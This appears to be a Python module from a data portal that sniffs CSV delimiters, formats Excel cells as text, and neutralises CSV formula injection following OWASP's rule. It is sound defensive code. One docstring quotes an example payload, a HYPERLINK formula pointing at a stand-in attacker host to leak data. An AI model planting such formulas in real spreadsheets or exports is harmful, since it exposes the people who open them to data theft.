"""How a cell of a spreadsheet or a line of a CSV file reads, the same for every table.

Both the tabular loader (``loaders/tabular.py``) and the publishers' upload
(``publishing/template.py``) read CSV and Excel files that people make by hand; a date typed
in Excel or a delimiter chosen by a Dutch locale must come out the same in both.
"""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

#: Delimiters a hand-made CSV file uses, in order of preference when a line has none of them.
DELIMITERS = (",", ";", "\t", "|")


def sniff_delimiter(sample: str) -> str:
    """The delimiter of a CSV file: the one its first line holds most of (a comma if none).

    csv.Sniffer guesses from quoting and consistency over many lines and is easily misled by
    descriptions full of commas; the header line of a table is a better witness.
    """
    first = sample.split("\n", 1)[0].split("\r", 1)[0]  # any line ending, without splitlines()
    return max(DELIMITERS, key=first.count)


def cell_text(value: Any) -> str:
    """An Excel cell's value as the text a CSV export would hold (dates as ISO 8601)."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        if value.time() == dt.time(0):
            return value.date().isoformat()
        return value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula or
#: command (OWASP "CSV Injection": ``=``, ``+``, ``-``, ``@``, tab and carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """A value safe to write into a CSV or Excel cell: text that a spreadsheet would run as a
    formula gets a leading ``'`` (OWASP's rule); numbers stay numbers, also written as text.

    The one function every CSV/Excel writer of the portal uses (dumps, exports, the CLI), so a
    label like ``=HYPERLINK("http://evil.example/?leak","Click")`` stays a label everywhere.
    """
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
